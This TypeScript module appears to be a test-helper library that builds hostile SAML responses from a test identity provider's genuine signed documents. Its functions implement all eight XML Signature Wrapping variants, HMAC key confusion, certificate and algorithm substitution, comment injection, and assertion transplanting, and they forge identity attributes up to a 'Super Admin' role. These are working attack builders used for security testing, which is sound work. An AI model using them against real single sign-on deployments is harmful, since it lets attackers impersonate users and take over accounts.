/**
 * Hostile SAML building blocks on top of the SDK's test IdP: the eight XML Signature Wrapping
 * layouts of Somorovsky et al. (XSW1-XSW8, as SAML Raider names them), a Response-level
 * signature, HMAC key-confusion and algorithm substitution, all by DOM surgery on real
 * signed documents (ours or pysaml2's), so they work whatever the namespace prefixes.
 */
import { randomUUID, X509Certificate } from 'node:crypto';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';

export const NS = {
  protocol: 'urn:oasis:names:tc:SAML:2.0:protocol',
  assertion: 'urn:oasis:names:tc:SAML:2.0:assertion',
  dsig: 'http://www.w3.org/2000/09/xmldsig#',
} as const;

export function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

export function serialize(node: Node): string {
  return new XMLSerializer().serializeToString(node);
}

function elementChildren(el: Element): Element[] {
  const out: Element[] = [];
  for (let n = el.firstChild; n; n = n.nextSibling) if (n.nodeType === 1) out.push(n as Element);
  return out;
}

function first(root: Document | Element, ns: string, local: string): Element {
  const el = root.getElementsByTagNameNS(ns, local).item(0);
  if (!el) throw new Error(`no ${local} in the document`);
  return el;
}

function directChild(el: Element, ns: string, local: string): Element | null {
  return elementChildren(el).find((c) => c.namespaceURI === ns && c.localName === local) ?? null;
}

/** Replaces the text of NameID and of the identity attributes with `evil`'s (the impersonation). */
function makeEvil(assertion: Element, evil: { uid: string; email: string; groupUid: string }): void {
  const nameId = first(assertion, NS.assertion, 'NameID');
  nameId.textContent = evil.uid;
  const values: Record<string, string> = { uid: evil.uid, mno_uid: evil.uid, email: evil.email, group_uid: evil.groupUid, group_role: 'Super Admin' };
  const attributes = assertion.getElementsByTagNameNS(NS.assertion, 'Attribute');
  for (let i = 0; i < attributes.length; i++) {
    const attribute = attributes.item(i)!;
    const value = values[attribute.getAttribute('Name') ?? ''];
    if (value === undefined) continue;
    const v = attribute.getElementsByTagNameNS(NS.assertion, 'AttributeValue').item(0);
    if (v) v.textContent = value;
  }
}

export const XSW_VARIANTS = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'] as const;
export type XswVariant = (typeof XSW_VARIANTS)[number];

/**
 * Builds an XSW variant from a genuine response. XSW1/XSW2 wrap a Response-level signature
 * (the genuine response must carry one: see `signResponse`); XSW3-XSW8 wrap the assertion's
 * signature. The evil content impersonates `evil`.
 */
export function xswVariant(variant: XswVariant, genuineXml: string, evil: { uid: string; email: string; groupUid: string }): string {
  const doc = parse(genuineXml);
  const response = doc.documentElement;
  const assertion = first(doc, NS.assertion, 'Assertion');
  if (variant === 'XSW1' || variant === 'XSW2') {
    const signature = directChild(response, NS.dsig, 'Signature');
    if (!signature) throw new Error(`${variant} needs a Response-level signature`);
    const original = response.cloneNode(true) as Element;
    const originalSig = directChild(original, NS.dsig, 'Signature');
    if (originalSig) original.removeChild(originalSig);
    // The evil response: new ID, the evil assertion, the genuine signature kept.
    response.setAttribute('ID', `_evil-${randomUUID()}`);
    makeEvil(assertion, evil);
    if (variant === 'XSW1') {
      const object = doc.createElementNS(NS.dsig, 'ds:Object');
      object.appendChild(original);
      signature.appendChild(object);
    } else {
      response.insertBefore(original, signature);
    }
    return serialize(doc);
  }
  const signature = directChild(assertion, NS.dsig, 'Signature');
  if (!signature) throw new Error(`${variant} needs a signed assertion`);
  const evilAssertion = assertion.cloneNode(true) as Element;
  evilAssertion.setAttribute('ID', `_evil-${randomUUID()}`);
  makeEvil(evilAssertion, evil);
  const evilSig = directChild(evilAssertion, NS.dsig, 'Signature');
  const unsignedOriginal = assertion.cloneNode(true) as Element;
  const s = directChild(unsignedOriginal, NS.dsig, 'Signature');
  if (s) unsignedOriginal.removeChild(s);
  switch (variant) {
    case 'XSW3': {
      // Evil assertion (unsigned) before the genuine signed one.
      if (evilSig) evilAssertion.removeChild(evilSig);
      response.insertBefore(evilAssertion, assertion);
      break;
    }
    case 'XSW4': {
      // The genuine assertion becomes a child of the evil one.
      if (evilSig) evilAssertion.removeChild(evilSig);
      response.replaceChild(evilAssertion, assertion);
      evilAssertion.appendChild(assertion);
      break;
    }
    case 'XSW5': {
      // Evil assertion carries the genuine signature; the unsigned original is appended at the end.
      response.replaceChild(evilAssertion, assertion);
      response.appendChild(unsignedOriginal);
      break;
    }
    case 'XSW6': {
      // Evil assertion carries the genuine signature, the unsigned original inside that signature.
      response.replaceChild(evilAssertion, assertion);
      evilSig?.appendChild(unsignedOriginal);
      break;
    }
    case 'XSW7': {
      // The evil assertion hidden in an Extensions element; the genuine one stays.
      if (evilSig) evilAssertion.removeChild(evilSig);
      const ext = doc.createElementNS(NS.protocol, 'samlp:Extensions');
      ext.appendChild(evilAssertion);
      const issuer = directChild(response, NS.assertion, 'Issuer');
      response.insertBefore(ext, issuer ? issuer.nextSibling : response.firstChild);
      break;
    }
    case 'XSW8': {
      // Evil assertion carries the genuine signature, which holds ds:Object > unsigned original.
      response.replaceChild(evilAssertion, assertion);
      const object = doc.createElementNS(NS.dsig, 'ds:Object');
      object.appendChild(unsignedOriginal);
      evilSig?.appendChild(object);
      break;
    }
  }
  return serialize(doc);
}

const ALG = {
  sha1: { signature: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1', digest: 'http://www.w3.org/2000/09/xmldsig#sha1' },
  sha256: { signature: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256', digest: 'http://www.w3.org/2001/04/xmlenc#sha256' },
} as const;

/** Adds an enveloped signature over the whole Response (after its Issuer). */
export function signResponse(responseXml: string, key: { privateKey: string; certificate: string }, algorithm: keyof typeof ALG = 'sha256'): string {
  const sig = new SignedXml({
    privateKey: key.privateKey,
    publicCert: key.certificate,
    signatureAlgorithm: ALG[algorithm].signature,
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  sig.addReference({
    xpath: "/*[local-name(.)='Response']",
    digestAlgorithm: ALG[algorithm].digest,
    transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#'],
  });
  sig.computeSignature(responseXml, {
    prefix: 'ds',
    location: { reference: "/*[local-name(.)='Response']/*[local-name(.)='Issuer']", action: 'after' },
  });
  return sig.getSignedXml();
}

/**
 * Signs an (unsigned) assertion with HMAC-SHA1 keyed by the IdP's *public* certificate: the
 * key-confusion attack (a verifier that accepted HMAC would check it with the public key).
 */
export function signAssertionHmac(assertionXml: string, certificatePem: string): string {
  const sig = new SignedXml({
    privateKey: Buffer.from(certificatePem),
    signatureAlgorithm: 'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  sig.enableHMAC();
  sig.addReference({
    xpath: "/*[local-name(.)='Assertion']",
    digestAlgorithm: 'http://www.w3.org/2000/09/xmldsig#sha1',
    transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#'],
  });
  sig.computeSignature(assertionXml, {
    prefix: 'ds',
    location: { reference: "/*[local-name(.)='Assertion']/*[local-name(.)='Issuer']", action: 'after' },
  });
  return sig.getSignedXml();
}

/** Swaps the KeyInfo certificate of every signature for `certificatePem` (signature untouched). */
export function replaceEmbeddedCertificate(xml: string, certificatePem: string): string {
  const b64 = certificatePem.replace(/-----[^-]+-----/g, '').replace(/\s+/g, '');
  return xml.replace(/(<(?:ds:)?X509Certificate>)[^<]*(<\/(?:ds:)?X509Certificate>)/g, `$1${b64}$2`);
}

/** Adds `certificatePem`'s RSA public key as a bare ds:KeyValue to every KeyInfo (signature untouched). */
export function addKeyValue(xml: string, certificatePem: string): string {
  const jwk = new X509Certificate(certificatePem).publicKey.export({ format: 'jwk' });
  const b64 = (v: string | undefined) => Buffer.from(v ?? '', 'base64url').toString('base64');
  const keyValue = `<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>${b64(jwk.n)}</ds:Modulus><ds:Exponent>${b64(jwk.e)}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>`;
  const out = xml.replace(/<ds:KeyInfo>/g, `<ds:KeyInfo>${keyValue}`);
  if (out === xml) throw new Error('no ds:KeyInfo to extend');
  return out;
}

/** Rewrites the SignatureMethod / DigestMethod algorithm URIs (after signing). */
export function replaceAlgorithm(xml: string, what: 'SignatureMethod' | 'DigestMethod', uri: string): string {
  return xml.replace(new RegExp(`(<(?:ds:)?${what} Algorithm=")[^"]*(")`, 'g'), `$1${uri}$2`);
}

/** Inserts an XML comment in the middle of the first text of `localName` (signature stays valid under C14N without comments). */
export function injectComment(xml: string, localName: string, at: number): string {
  const re = new RegExp(`(<(?:[\\w-]+:)?${localName}\\b[^>]*>)([^<]*)(<)`);
  const m = re.exec(xml);
  if (!m) throw new Error(`${localName} not found`);
  const text = m[2] ?? '';
  return xml.replace(re, `$1${text.slice(0, at)}<!---->${text.slice(at)}$3`);
}

/** Moves a signed assertion into another Response envelope (with its own attributes). */
export function moveAssertion(sourceResponseXml: string, targetResponseXml: string): string {
  const source = parse(sourceResponseXml);
  const target = parse(targetResponseXml);
  const assertion = first(source, NS.assertion, 'Assertion');
  const old = first(target, NS.assertion, 'Assertion');
  old.parentNode?.replaceChild(target.importNode(assertion, true), old);
  return serialize(target);
}

export function b64(xml: string): string {
  return Buffer.from(xml, 'utf8').toString('base64');
}
